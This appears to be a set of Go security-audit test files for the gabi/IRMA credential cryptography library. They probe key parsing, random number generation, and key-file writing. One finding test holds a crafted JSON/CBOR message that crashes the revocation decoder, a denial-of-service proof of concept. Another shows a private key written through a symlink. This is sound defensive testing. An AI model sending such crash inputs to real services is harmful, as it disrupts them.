				t.Errorf("RandomPrimeInRange(%d,%d)=%v outside [%v,%v]", start, length, p, lo, hi)
			}
			if !p.ProbablyPrime(30) {
				t.Errorf("RandomPrimeInRange(%d,%d)=%v not prime", start, length, p)
			}
			seen[p.String()] = true
		}
		// for small intervals: are all primes in the interval reachable?
		if length <= 6 {
			var missing []string
			for x := new(big.Int).Set(lo); x.Cmp(hi) <= 0; x.Add(x, bi(1)) {
				if x.ProbablyPrime(30) && !seen[x.String()] {
					missing = append(missing, x.String())
				}
			}
			if len(missing) > 0 {
				t.Errorf("RandomPrimeInRange(%d,%d): primes in range never produced in 3000 draws: %v", start, length, missing)
			}
		}
	}
}

func TestHuntRandomPrimeInRangeSmallStart(t *testing.T) {
	rd := seqReader{mathrand.New(mathrand.NewSource(5))}
	for _, start := range []uint{0, 1} {
		_, err := RandomPrimeInRange(rd, start, 4)
		t.Logf("start=%d: err=%v", start, err)
	}
}

// ---------- CPRNG / FastRandomBigInt ----------

func TestHuntFastRandomBigIntBounds(t *testing.T) {
	for _, lim := range []int64{1, 2, 3, 5, 255, 256, 257, 65535, 65536, 1 << 40} {
		l := bi(lim)
		seen := map[int64]int{}
		for range 2000 {
			r := FastRandomBigInt(l)
			if r.Sign() < 0 || r.Cmp(l) >= 0 {
				t.Fatalf("FastRandomBigInt(%d)=%v out of range", lim, r)
			}
			seen[r.Int64()]++
		}
		if lim <= 5 && len(seen) != int(lim) {
			t.Errorf("limit %d: only %d different values", lim, len(seen))
		}
	}
	// large, non power of two limits
	l := new(big.Int).Lsh(bi(1), 2048)
	l.Add(l, bi(1))
	for range 200 {
		r := FastRandomBigInt(l)
		if r.Sign() < 0 || r.Cmp(l) >= 0 {
			t.Fatalf("out of range")
		}
	}
}

func TestHuntFastRandomBigIntNonPositive(t *testing.T) {
	for _, lim := range []int64{0, -1, -5} {
		fin, pan := runWithTimeout(3*time.Second, func() { FastRandomBigInt(bi(lim)) })
		t.Logf("FastRandomBigInt(%d): fin=%v panic=%v", lim, fin, pan)
		if !fin {
			t.Errorf("hang for limit %d", lim)
		}
	}
}

func TestHuntCPRNGRead(t *testing.T) {
	var seed [32]byte
	c1, _ := NewCPRNG(&seed)
	c2, _ := NewCPRNG(&seed)
	// reading 40 bytes at once versus 16+16+8 must give the same stream (3 blocks each)
	a := make([]byte, 40)
	n, err := c1.Read(a)
	if n != 40 || err != nil {
		t.Fatalf("n=%d err=%v", n, err)
	}
	b := make([]byte, 40)
	c2.Read(b[:16])
	c2.Read(b[16:32])
	c2.Read(b[32:])
	if fmt.Sprintf("%x", a) != fmt.Sprintf("%x", b) {
		t.Errorf("stream differs between one read and chunked reads:\n%x\n%x", a, b)
	}
	// exact multiples of 16: counter consumed must equal number of blocks
	c3, _ := NewCPRNG(&seed)
	buf := make([]byte, 32)
	c3.Read(buf)
	if c3.counter != 2 {
		t.Errorf("counter after 32 bytes = %d, want 2", c3.counter)
	}
	// zero length
	n, err = c3.Read(nil)
	if n != 0 || err != nil || c3.counter != 2 {
		t.Errorf("zero-length read n=%d err=%v counter=%d", n, err, c3.counter)
	}
	// 1-byte reads waste a block each but must not repeat
	c4, _ := NewCPRNG(&seed)
	x := make([]byte, 1)
	y := make([]byte, 1)
	c4.Read(x)
	c4.Read(y)
	_ = x
	_ = y
	// all-zero buffer check: a 17 byte read must fill all 17 bytes (probabilistic: last byte nonzero w.h.p. over several tries)
	zeros := 0
	for range 64 {
		z := make([]byte, 17)
		c4.Read(z)
		if z[16] == 0 {
			zeros++
		}
	}
	if zeros > 8 {
		t.Errorf("trailing byte of 17-byte reads is zero %d/64 times", zeros)
	}
}

func TestHuntNewCPRNGNilSeed(t *testing.T) {
	fin, pan := runWithTimeout(3*time.Second, func() { NewCPRNG(nil) })
	t.Logf("NewCPRNG(nil): fin=%v pan=%v", fin, pan)
}

func TestHuntRandomQR(t *testing.T) {
	for _, n := range []int64{1, 2, 3, 4, 15} {
		var r *big.Int
		fin, pan := runWithTimeout(3*time.Second, func() { r = RandomQR(bi(n)) })
		t.Logf("RandomQR(%d): fin=%v pan=%v r=%v", n, fin, pan, r)
		if !fin {
			t.Errorf("RandomQR(%d) hangs", n)
		}
	}
}

func TestHuntRandomBigInt(t *testing.T) {
	for _, nb := range []uint{0, 1, 8, 9} {
		lim := new(big.Int).Lsh(bi(1), nb)
		for range 200 {
			r, err := RandomBigInt(nb)
			if err != nil {
				t.Fatal(err)
			}
			if r.Sign() < 0 || r.Cmp(lim) >= 0 {
				t.Errorf("RandomBigInt(%d)=%v out of range", nb, r)
			}
		}
	}
}
