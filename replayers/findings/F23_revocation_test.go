package revocation

import (
	"encoding/json"
	"testing"

	"github.com/fxamacker/cbor"
)

// F23: decoding an update (or event list) whose compressed event values contain a null makes the decoder itself
// panic: uncompress recomputes the parent hashes from the values and dereferences the missing one. A single JSON
// or CBOR message from the network crashes the receiver before any verification can take place.
func TestF23(t *testing.T) {
	try := func(name string, f func() error) {
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("%s: decoder panicked: %v", name, r)
			}
		}()
		if err := f(); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
	try("event list JSON", func() error {
		var el EventList
		return json.Unmarshal([]byte(`{"i":3,"hash":"EiAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==","e":[null,"AQ=="]}`), &el)
	})
	try("update JSON", func() error {
		var u Update
		return json.Unmarshal([]byte(`{"sacc":{"data":"AA==","pk":0},"e":{"i":3,"hash":"EiAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==","e":[null,"AQ=="]}}`), &u)
	})
	try("event list CBOR", func() error {
		bts, err := cbor.Marshal(map[string]interface{}{"i": 3, "hash": []byte{0x12, 0x20}, "e": []interface{}{nil, []byte{1}}}, cbor.EncOptions{})
		if err != nil {
			t.Fatal(err)
		}
		var el EventList
		return cbor.Unmarshal(bts, &el)
	})
}
