package gabikeys_test

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/base64"
	"encoding/xml"
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/gabikeys"
)

func huntRecover(p *any) {
	if r := recover(); r != nil {
		*p = r
	}
}

// replaceElem replaces the content of <name>...</name> in doc.
func replaceElem(doc, name, content string) string {
	re := regexp.MustCompile(`<` + name + `>[^<]*</` + name + `>`)
	if !re.MatchString(doc) {
		panic("element not found: " + name)
	}
	return re.ReplaceAllString(doc, `<`+name+`>`+content+`</`+name+`>`)
}

func removeElem(doc, name string) string {
	re := regexp.MustCompile(`(?s)<` + name + `[ >].*?</` + name + `>`)
	if !re.MatchString(doc) {
		panic("element not found: " + name)
	}
	return re.ReplaceAllString(doc, ``)
}

const nValue = "164849270410462350104130325681247905590883554049096338805080434441472785625514686982133223499269392762578795730418568510961568211704176723141852210985181059718962898851826265731600544499072072429389241617421101776748772563983535569756524904424870652659455911012103327708213798899264261222168033763550010103177"

// ---------- (a) public keys: malformed but accepted ----------

func TestHuntPublicKeyDegenerateElements(t *testing.T) {
	nPlus := new(big.Int).Add(s2big(nValue), big.NewInt(12345)).String()
	for _, c := range []struct{ elem, val, why string }{
		{"Z", "0", "Z = 0"},
		{"Z", "1", "Z = 1"},
		{"S", "0", "S = 0"},
		{"S", "1", "S = 1"},
		{"Base_0", "0", "R0 = 0"},
		{"Base_1", "1", "R1 = 1"},
		{"Z", nValue, "Z = n"},
		{"S", nPlus, "S > n"},
		{"Base_2", nPlus, "R2 > n"},
		{"n", new(big.Int).Lsh(big.NewInt(1), 1023).String(), "n = 2^1023 (even, a power of two)"},
		{"n", new(big.Int).Sub(s2big(nValue), big.NewInt(1)).String(), "n even"},
	} {
		doc := replaceElem(xmlPubKey1, c.elem, c.val)
		pk, err := gabikeys.NewPublicKeyFromXML(doc)
		if err == nil {
			t.Errorf("public key with %s accepted (Params=%v)", c.why, pk.Params != nil)
		}
	}
}

func TestHuntPublicKeyRepeatedBase(t *testing.T) {
	// all bases equal to S
	pk0, _ := gabikeys.NewPublicKeyFromXML(xmlPubKey1)
	doc := xmlPubKey1
	for _, b := range []string{"Base_0", "Base_1", "Base_2", "Base_3", "Base_4", "Base_5", "Z"} {
		doc = replaceElem(doc, b, pk0.S.String())
	}
	if _, err := gabikeys.NewPublicKeyFromXML(doc); err == nil {
		t.Errorf("public key with Z = S = R0 = ... = R5 accepted")
	}
}

const someECDSAPub = "MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE"

func withRevocation(doc string, g, h, ecdsaStr *string) string {
	extra := ""
	if g != nil {
		extra += "<G>" + *g + "</G>"
	}
	if h != nil {
		extra += "<H>" + *h + "</H>"
	}
	doc = strings.Replace(doc, "<Bases ", extra+"<Bases ", 1)
	if ecdsaStr != nil {
		doc = strings.Replace(doc, "</IssuerPublicKey>", "<ECDSA>"+*ecdsaStr+"</ECDSA></IssuerPublicKey>", 1)
	}
	return doc
}

func TestHuntPublicKeyGWithoutH(t *testing.T) {
	g := "4"
	garbage := "!!! this is not base64 !!!"
	// G but no H, and an ECDSA element that is garbage
	doc := withRevocation(xmlPubKey1, &g, nil, &garbage)
	pk, err := gabikeys.NewPublicKeyFromXML(doc)
	if err == nil {
		t.Errorf("public key with G, without H and with an unparsable ECDSA element accepted; RevocationSupported=%v ECDSA=%v", pk.RevocationSupported(), pk.ECDSA)
	}
	// the same garbage with both G and H is refused, which shows the element is simply skipped above
	doc = withRevocation(xmlPubKey1, &g, &g, &garbage)
	if _, err := gabikeys.NewPublicKeyFromXML(doc); err == nil {
		t.Errorf("garbage ECDSA with G and H accepted")
	}
	// H but no G, no ECDSA
	doc = withRevocation(xmlPubKey1, nil, &g, nil)
	if _, err := gabikeys.NewPublicKeyFromXML(doc); err == nil {
		t.Errorf("public key with H but without G accepted")
	}
	// G and H but no ECDSA
	doc = withRevocation(xmlPubKey1, &g, &g, nil)
	if pk, err := gabikeys.NewPublicKeyFromXML(doc); err == nil {
		t.Errorf("public key with G and H but without ECDSA accepted; Names()=%v", pk.Names())
	}
	// ECDSA but neither G nor H
	doc = withRevocation(xmlPubKey1, nil, nil, &garbage)
	if _, err := gabikeys.NewPublicKeyFromXML(doc); err == nil {
		t.Errorf("public key with a garbage ECDSA element and neither G nor H accepted")
	}
}

func TestHuntPublicKeyDegenerateGH(t *testing.T) {
	sk, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, _ := x509.MarshalPKIXPublicKey(&sk.PublicKey)
	e := base64.StdEncoding.EncodeToString(der)
	for _, c := range [][2]string{{"0", "0"}, {"1", "1"}, {"5", "5"}} {
		doc := withRevocation(xmlPubKey1, &c[0], &c[1], &e)
		pk, err := gabikeys.NewPublicKeyFromXML(doc)
		if err == nil {
			t.Errorf("public key with G=%s H=%s accepted, RevocationSupported=%v", c[0], c[1], pk.RevocationSupported())
		}
	}
}

func TestHuntPublicKeyOtherCurve(t *testing.T) {
	for _, curve := range []elliptic.Curve{elliptic.P224(), elliptic.P384(), elliptic.P521()} {
		sk, err := ecdsa.GenerateKey(curve, rand.Reader)
		if err != nil {
			t.Fatal(err)
		}
		der, err := x509.MarshalPKIXPublicKey(&sk.PublicKey)
		if err != nil {
			t.Fatal(err)
		}
		e := base64.StdEncoding.EncodeToString(der)
		g := "4"
		doc := withRevocation(xmlPubKey1, &g, &g, &e)
		if _, err := gabikeys.NewPublicKeyFromXML(doc); err == nil {
			t.Errorf("public key with a revocation key on curve %s accepted (GenerateKey only makes P-256)", curve.Params().Name)
		}
		skder, err := x509.MarshalECPrivateKey(sk)
		if err != nil {
			t.Fatal(err)
		}
		sdoc := strings.Replace(xmlPrivKey1, "</IssuerPrivateKey>", "<ECDSA>"+base64.StdEncoding.EncodeToString(skder)+"</ECDSA></IssuerPrivateKey>", 1)
		if _, err := gabikeys.NewPrivateKeyFromXML(sdoc, false); err == nil {
			t.Errorf("private key with a revocation key on curve %s accepted", curve.Params().Name)
		}
	}
}

func TestHuntPublicKeyMissingScalars(t *testing.T) {
	for _, name := range []string{"Counter", "ExpiryDate", "Features"} {
		doc := removeElem(xmlPubKey1, name)
		pk, err := gabikeys.NewPublicKeyFromXML(doc)
		if err == nil {
			t.Errorf("public key without <%s> accepted: Counter=%d ExpiryDate=%d EpochLength=%d", name, pk.Counter, pk.ExpiryDate, pk.EpochLength)
		}
	}
	for _, name := range []string{"Counter", "ExpiryDate"} {
		doc := removeElem(xmlPrivKey1, name)
		sk, err := gabikeys.NewPrivateKeyFromXML(doc, false)
		if err == nil {
			t.Errorf("private key without <%s> accepted: Counter=%d ExpiryDate=%d", name, sk.Counter, sk.ExpiryDate)
		}
	}
}

func TestHuntPublicKeyEpochLength(t *testing.T) {
	for _, l := range []string{"-5", "0"} {
		doc := strings.Replace(xmlPubKey1, `length="432000"`, `length="`+l+`"`, 1)
		pk, err := gabikeys.NewPublicKeyFromXML(doc)
		if err == nil {
			t.Errorf("public key with epoch length %s accepted (EpochLength=%d)", l, pk.EpochLength)
		}
	}
	// Features without Epoch
	doc := strings.Replace(xmlPubKey1, `<Epoch length="432000"></Epoch>`, ``, 1)
	if pk, err := gabikeys.NewPublicKeyFromXML(doc); err == nil {
		t.Errorf("public key with empty <Features> accepted (EpochLength=%d)", pk.EpochLength)
	}
}

func TestHuntPublicKeyTrailingGarbage(t *testing.T) {
	for _, tail := range []string{"this is not xml <<<<", "<IssuerPublicKey", xmlPrivKey1} {
		if _, err := gabikeys.NewPublicKeyFromXML(xmlPubKey1 + tail); err == nil {
			t.Errorf("public key document followed by %q accepted", tail[:12])
		}
	}
	if _, err := gabikeys.NewPrivateKeyFromXML(xmlPrivKey1+"]]> garbage <", false); err == nil {
		t.Errorf("private key document followed by garbage accepted")
	}
}

func TestHuntPublicKeyDuplicates(t *testing.T) {
	// a second <n> / <Elements> overrides the first
	doc := strings.Replace(xmlPubKey1, "<Z>", "<n>"+new(big.Int).Lsh(big.NewInt(1), 1023).String()+"</n><Z>", 1)
	pk, err := gabikeys.NewPublicKeyFromXML(doc)
	if err == nil {
		t.Errorf("public key with two <n> elements accepted, n = first one: %v", pk.N.Cmp(s2big(nValue)) == 0)
	}
	doc = strings.Replace(xmlPubKey1, "<Features>", "<Elements><S>1</S></Elements><Features>", 1)
	pk, err = gabikeys.NewPublicKeyFromXML(doc)
	if err == nil {
		t.Errorf("public key with two <Elements> accepted, S=%v", pk.S)
	}
	doc = strings.Replace(xmlPubKey1, "</Bases>", "</Bases><Bases num=\"0\"></Bases>", 1)
	pk, err = gabikeys.NewPublicKeyFromXML(doc)
	if err == nil {
		t.Errorf("public key with two <Bases> accepted, %d bases", len(pk.R))
	}
	doc = strings.Replace(xmlPrivKey1, "<q>", "<p>7</p><q>", 1)
	sk, err := gabikeys.NewPrivateKeyFromXML(doc, true)
	if err == nil {
		t.Errorf("private key with two <p> accepted, p=%v...", sk.P.String()[:1])
	}
}

func TestHuntPublicKeyUnknownElements(t *testing.T) {
	doc := strings.Replace(xmlPubKey1, "<Z>", "<Foo>1</Foo><Z>", 1)
	if _, err := gabikeys.NewPublicKeyFromXML(doc); err == nil {
		t.Errorf("public key with unknown element in <Elements> accepted")
	}
	// Base element carrying a child element / attribute
	doc = strings.Replace(xmlPubKey1, "<Base_0>", `<Base_0 evil="1">`, 1)
	if _, err := gabikeys.NewPublicKeyFromXML(doc); err == nil {
		t.Errorf("Base_0 with attribute accepted")
	}
}

// ---------- (a) well-formed but refused ----------

func TestHuntWellFormedRefused(t *testing.T) {
	pk0, err := gabikeys.NewPublicKeyFromXML(xmlPubKey1)
	if err != nil {
		t.Fatal(err)
	}
	check := func(what, doc string) {
		pk, err := gabikeys.NewPublicKeyFromXML(doc)
		if err != nil {
			t.Errorf("%s: refused: %v", what, err)
			return
		}
		if pk.N.Cmp(pk0.N) != 0 || pk.Z.Cmp(pk0.Z) != 0 || len(pk.R) != len(pk0.R) || pk.R[0].Cmp(pk0.R[0]) != 0 {
			t.Errorf("%s: read differently", what)
		}
	}
	check("UTF-8 byte order mark", "\xef\xbb\xbf"+xmlPubKey1)
	check("encoding=ISO-8859-1 declaration (pure ASCII content)", strings.Replace(xmlPubKey1, `encoding="UTF-8"`, `encoding="ISO-8859-1"`, 1))
	check("encoding=US-ASCII declaration", strings.Replace(xmlPubKey1, `encoding="UTF-8"`, `encoding="US-ASCII"`, 1))
	check("number with surrounding whitespace in <n>", replaceElem(xmlPubKey1, "n", "\n         "+nValue+"\n      "))
	check("number with surrounding whitespace in <Base_0>", replaceElem(xmlPubKey1, "Base_0", " "+pk0.R[0].String()+" "))
	check("comment inside <Base_0>", replaceElem(xmlPubKey1, "Base_0", pk0.R[0].String()+"<!-- first base -->"))
	check("CDATA in <Base_0>", replaceElem(xmlPubKey1, "Base_0", "<![CDATA["+pk0.R[0].String()+"]]>"))
	check("CDATA in <n>", replaceElem(xmlPubKey1, "n", "<![CDATA["+nValue+"]]>"))
	check("character reference in <Base_0>", replaceElem(xmlPubKey1, "Base_0", "&#49;"+pk0.R[0].String()[1:]))
	check("comment between bases", strings.Replace(xmlPubKey1, "<Base_1>", "<!-- second --><Base_1>", 1))
	check("namespace prefix", strings.NewReplacer("<IssuerPublicKey xmlns=", "<i:IssuerPublicKey xmlns:i=", "</IssuerPublicKey>", "</i:IssuerPublicKey>").Replace(
		regexp.MustCompile(`<(/?)(Counter|ExpiryDate|Elements|n|Z|S|Bases|Base_\d|Features|Epoch)([ >])`).ReplaceAllString(xmlPubKey1, "<${1}i:${2}${3}")))
}

// ---------- private keys ----------

func TestHuntPrivateKeyPEqualsQ(t *testing.T) {
	pp := new(big.Int).Rsh(s2big(p1), 1).String()
	doc := replaceElem(replaceElem(xmlPrivKey1, "q", p1), "qPrime", pp)
	sk, err := gabikeys.NewPrivateKeyFromXML(doc, false)
	if err == nil {
		t.Errorf("private key with p == q accepted outside demo mode (n = p^2, %d bits)", sk.N.BitLen())
	}
}

func TestHuntPrivateKeyValidateNil(t *testing.T) {
	var pan any
	func() {
		defer huntRecover(&pan)
		err := (&gabikeys.PrivateKey{}).Validate()
		t.Logf("err=%v", err)
	}()
	if pan != nil {
		t.Errorf("PrivateKey.Validate on a key without P panics: %v", pan)
	}
}

func TestHuntPrivateKeyDemoAnything(t *testing.T) {
	doc := replaceElem(replaceElem(replaceElem(replaceElem(xmlPrivKey1, "p", "0"), "q", "0"), "pPrime", "0"), "qPrime", "0")
	sk, err := gabikeys.NewPrivateKeyFromXML(doc, true)
	t.Logf("demo key all zero: err=%v sk=%v", err, sk != nil)
}

func TestHuntGenerateRevocationKeypairMismatch(t *testing.T) {
	sk, err := gabikeys.NewPrivateKeyFromXML(xmlPrivKey1, false)
	if err != nil {
		t.Fatal(err)
	}
	// a public key with a different modulus and a different counter
	doc := replaceElem(replaceElem(xmlPubKey1, "n", new(big.Int).Add(s2big(nValue), big.NewInt(2)).String()), "Counter", "7")
	pk, err := gabikeys.NewPublicKeyFromXML(doc)
	if err != nil {
		t.Fatal(err)
	}
	if err := gabikeys.GenerateRevocationKeypair(sk, pk); err == nil {
		t.Errorf("GenerateRevocationKeypair accepted a private key (counter %d) and a public key (counter %d) with p*q != n", sk.Counter, pk.Counter)
	}
}

func TestHuntNewPublicKeyUnsupportedLength(t *testing.T) {
	n := new(big.Int).Lsh(big.NewInt(1), 999)
	n.Add(n, big.NewInt(1))
	pk, err := gabikeys.NewPublicKey(n, big.NewInt(4), big.NewInt(9), nil, nil, []*big.Int{big.NewInt(16)}, "", 0, time.Now())
	if err == nil && pk.Params == nil {
		t.Errorf("NewPublicKey with a 1000-bit modulus returns a key with Params == nil and no error (the XML reader refuses such a modulus)")
	}
}

// ---------- Base / Exp / Names ----------

func TestHuntBaseEmptyName(t *testing.T) {
	pk, _ := gabikeys.NewPublicKeyFromXML(xmlPubKey1)
	var pan any
	func() {
		defer huntRecover(&pan)
		if b := pk.Base(""); b != nil {
			t.Errorf("Base(\"\") = %v", b)
		}
	}()
	if pan != nil {
		t.Errorf("PublicKey.Base(\"\") panics: %v", pan)
	}
	pan = nil
	func() {
		defer huntRecover(&pan)
		if pk.Exp(new(big.Int), "", big.NewInt(1), pk.N) {
			t.Errorf("Exp with empty name succeeded")
		}
	}()
	if pan != nil {
		t.Errorf("PublicKey.Exp(ret, \"\", ...) panics: %v", pan)
	}
}

func TestHuntBaseAliases(t *testing.T) {
	pk, _ := gabikeys.NewPublicKeyFromXML(xmlPubKey1)
	names := map[string]bool{}
	for _, n := range pk.Names() {
		names[n] = true
	}
	for _, alias := range []string{"R+1", "R01", "R0001", "R-0", "R+0", "R1_0"} {
		if b := pk.Base(alias); b != nil && !names[alias] {
			t.Errorf("Base(%q) returns a base although %q is not in Names()", alias, alias)
		}
	}
	for _, n := range []string{"G", "H"} {
		if b := pk.Base(n); b != nil {
			t.Errorf("Base(%q) non-nil without revocation", n)
		}
	}
	// every name from Names() must resolve
	for n := range names {
		if pk.Base(n) == nil {
			t.Errorf("Names() contains %q but Base gives nil", n)
		}
	}
}

func TestHuntNamesGWithoutH(t *testing.T) {
	pk, _ := gabikeys.NewPublicKeyFromXML(xmlPubKey1)
	pk.G = big.NewInt(4)
	names := strings.Join(pk.Names(), ",")
	if pk.Base("G") != nil && !strings.Contains(names, "G") {
		t.Errorf("key with G and without H: Base(\"G\") resolves but Names() = %s omits it", names)
	}
}

func TestHuntExpNilArguments(t *testing.T) {
	pk, _ := gabikeys.NewPublicKeyFromXML(xmlPubKey1)
	ret := new(big.Int)
	// negative exponent: math/big computes the inverse
	ok := pk.Exp(ret, "S", big.NewInt(-1), pk.N)
	inv := new(big.Int).ModInverse(pk.S, pk.N)
	if !ok || ret.Cmp(inv) != 0 {
		t.Errorf("Exp with exponent -1: ok=%v", ok)
	}
	// S = 0 mod N with negative exponent: Exp returns nil, ret unchanged, true reported
	pk.S = new(big.Int).Set(pk.N)
	ret.SetInt64(42)
	ok = pk.Exp(ret, "S", big.NewInt(-1), pk.N)
	if ok {
		t.Errorf("Exp of a non-invertible base with a negative exponent reports success, ret left at %v", ret)
	}
}

// ---------- round trips ----------

func TestHuntWriteNilBase(t *testing.T) {
	pk, _ := gabikeys.NewPublicKeyFromXML(xmlPubKey1)
	pk.R[2] = nil
	var buf bytes.Buffer
	var pan any
	var err error
	func() {
		defer huntRecover(&pan)
		_, err = pk.WriteTo(&buf)
	}()
	if pan != nil {
		t.Logf("panic: %v", pan)
		return
	}
	if err != nil {
		return
	}
	var any struct {
		XMLName xml.Name
	}
	if xerr := xml.Unmarshal(buf.Bytes(), &any); xerr != nil {
		t.Errorf("WriteTo of a key with a nil base reports success but writes a document that is not XML: %v", xerr)
	} else if _, rerr := gabikeys.NewPublicKeyFromBytes(buf.Bytes()); rerr != nil {
		t.Errorf("WriteTo of a key with a nil base reports success; reading it back fails: %v", rerr)
	}
}

func TestHuntWriteNegative(t *testing.T) {
	pk, _ := gabikeys.NewPublicKeyFromXML(xmlPubKey1)
	pk.Z = new(big.Int).Neg(pk.Z)
	pk.R[0] = new(big.Int).Neg(pk.R[0])
	var buf bytes.Buffer
	if _, err := pk.WriteTo(&buf); err != nil {
		return
	}
	if _, err := gabikeys.NewPublicKeyFromBytes(buf.Bytes()); err != nil {
		t.Errorf("key with negative Z / R0 written without error, refused on reading: %v", err)
	}
}

func TestHuntRoundTripFields(t *testing.T) {
	priv, pub, err := gabikeys.GenerateKeyPair(gabikeys.DefaultSystemParameters[1024], 3, 4294967297, time.Unix(-5, 0))
	if err != nil {
		t.Fatal(err)
	}
	pub.Issuer = "irma-demo.RU"
	pub.EpochLength = 86400
	var buf bytes.Buffer
	n, err := pub.WriteTo(&buf)
	if err != nil || int(n) != buf.Len() {
		t.Fatalf("n=%d len=%d err=%v", n, buf.Len(), err)
	}
	pub2, err := gabikeys.NewPublicKeyFromBytes(buf.Bytes())
	if err != nil {
		t.Fatalf("generated public key refused: %v", err)
	}
	if pub2.Counter != pub.Counter || pub2.ExpiryDate != pub.ExpiryDate || pub2.EpochLength != pub.EpochLength ||
		pub2.N.Cmp(pub.N) != 0 || pub2.G.Cmp(pub.G) != 0 || pub2.H.Cmp(pub.H) != 0 || pub2.ECDSAString != pub.ECDSAString ||
		!pub2.ECDSA.Equal(pub.ECDSA) || pub2.Params != pub.Params || len(pub2.R) != 3 {
		t.Errorf("public key fields differ after a round trip")
	}
	if pub2.Issuer != pub.Issuer {
		t.Logf("Issuer is not serialised (xml:\"-\"): %q -> %q", pub.Issuer, pub2.Issuer)
	}
	buf.Reset()
	if _, err = priv.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	priv2, err := gabikeys.NewPrivateKeyFromXML(buf.String(), false)
	if err != nil {
		t.Fatalf("generated private key refused: %v", err)
	}
	if priv2.Counter != priv.Counter || priv2.ExpiryDate != priv.ExpiryDate || priv2.N.Cmp(priv.N) != 0 || priv2.Order.Cmp(priv.Order) != 0 ||
		!priv2.ECDSA.Equal(priv.ECDSA) {
		t.Errorf("private key fields differ after a round trip")
	}
}

func TestHuntGenerateKeyPairNumAttributes(t *testing.T) {
	params := smallSystemParameters(256)
	for _, na := range []int{0, -1} {
		var pan any
		func() {
			defer huntRecover(&pan)
			_, pk, err := gabikeys.GenerateKeyPair(params, na, 0, time.Now())
			if err == nil {
				t.Logf("numAttributes=%d: %d bases", na, len(pk.R))
			}
		}()
		if pan != nil {
			t.Errorf("GenerateKeyPair(numAttributes=%d) panics: %v", na, pan)
		}
	}
}

// ---------- (b) files ----------

type limitedWriter struct {
	n   int
	buf bytes.Buffer
}

func (w *limitedWriter) Write(p []byte) (int, error) {
	if len(p) > w.n {
		k := w.n
		w.buf.Write(p[:k])
		w.n = 0
		return k, errors.New("disk full")
	}
	w.n -= len(p)
	w.buf.Write(p)
	return len(p), nil
}

func TestHuntWriteToPartialCount(t *testing.T) {
	sk, _ := gabikeys.NewPrivateKeyFromXML(xmlPrivKey1, false)
	pk, _ := gabikeys.NewPublicKeyFromXML(xmlPubKey1)
	for _, limit := range []int{10, 100} {
		w := &limitedWriter{n: limit}
		n, err := sk.WriteTo(w)
		if err == nil {
			t.Fatal("no error")
		}
		if int(n) != w.buf.Len() {
			t.Errorf("PrivateKey.WriteTo: writer took %d bytes and then failed; WriteTo reports %d", w.buf.Len(), n)
		}
		w = &limitedWriter{n: limit}
		n, err = pk.WriteTo(w)
		if err == nil {
			t.Fatal("no error")
		}
		if int(n) != w.buf.Len() {
			t.Errorf("PublicKey.WriteTo: writer took %d bytes and then failed; WriteTo reports %d", w.buf.Len(), n)
		}
	}
}

func TestHuntWriteToFileSymlink(t *testing.T) {
	old := syscall.Umask(0)
	defer syscall.Umask(old)
	dir := t.TempDir()
	sk, _ := gabikeys.NewPrivateKeyFromXML(xmlPrivKey1, false)
	target := filepath.Join(dir, "other-file.txt")
	if err := os.WriteFile(target, []byte("precious content of another file\n"), 0644); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(dir, "sk.xml")
	if err := os.Symlink(target, link); err != nil {
		t.Skip(err)
	}
	// without force: refused
	if _, err := sk.WriteToFile(link, false); err == nil {
		t.Errorf("forceOverwrite=false wrote through an existing symlink")
	}
	_, err := sk.WriteToFile(link, true)
	b, _ := os.ReadFile(target)
	fi, _ := os.Stat(target)
	li, _ := os.Lstat(link)
	if err == nil && strings.Contains(string(b), "IssuerPrivateKey") {
		t.Errorf("forceOverwrite=true followed the symlink: the private key was written into %s (mode now %v), the link is still a link: %v",
			filepath.Base(target), fi.Mode().Perm(), li.Mode()&os.ModeSymlink != 0)
	}
	// dangling symlink, force
	dl := filepath.Join(dir, "dangling.xml")
	os.Symlink(filepath.Join(dir, "elsewhere", "..", "created-through-link"), dl)
	_, err = sk.WriteToFile(dl, true)
	t.Logf("dangling symlink with force: err=%v", err)
}

func TestHuntWriteToFileOddTargets(t *testing.T) {
	dir := t.TempDir()
	sk, _ := gabikeys.NewPrivateKeyFromXML(xmlPrivKey1, false)
	n, err := sk.WriteToFile(dir, true)
	if err == nil || n != 0 {
		t.Errorf("writing to a directory: n=%d err=%v", n, err)
	}
	n, err = sk.WriteToFile(filepath.Join(dir, "no", "such", "dir.xml"), true)
	if err == nil || n != 0 {
		t.Errorf("writing below a missing directory: n=%d err=%v", n, err)
	}
	n, err = sk.WriteToFile("", true)
	if err == nil || n != 0 {
		t.Errorf("empty file name: n=%d err=%v", n, err)
	}
	// read: directory, empty file
	if _, err := gabikeys.NewPrivateKeyFromFile(dir, false); err == nil {
		t.Errorf("directory read as private key")
	}
	empty := filepath.Join(dir, "empty.xml")
	os.WriteFile(empty, nil, 0600)
	if _, err := gabikeys.NewPrivateKeyFromFile(empty, false); err == nil {
		t.Errorf("empty file read as private key")
	}
	if _, err := gabikeys.NewPublicKeyFromFile(empty); err == nil {
		t.Errorf("empty file read as public key")
	}
	// private key file fed to the public key reader and vice versa
	skf := filepath.Join(dir, "sk.xml")
	os.WriteFile(skf, []byte(xmlPrivKey1), 0600)
	if _, err := gabikeys.NewPublicKeyFromFile(skf); err == nil {
		t.Errorf("private key file read as public key")
	}
	pkf := filepath.Join(dir, "pk.xml")
	os.WriteFile(pkf, []byte(xmlPubKey1), 0600)
	if _, err := gabikeys.NewPrivateKeyFromFile(pkf, true); err == nil {
		t.Errorf("public key file read as private key (demo)")
	}
}

func TestHuntWriteToFileUmask(t *testing.T) {
	old := syscall.Umask(0077)
	defer syscall.Umask(old)
	dir := t.TempDir()
	pk, _ := gabikeys.NewPublicKeyFromXML(xmlPubKey1)
	for _, force := range []bool{false, true} {
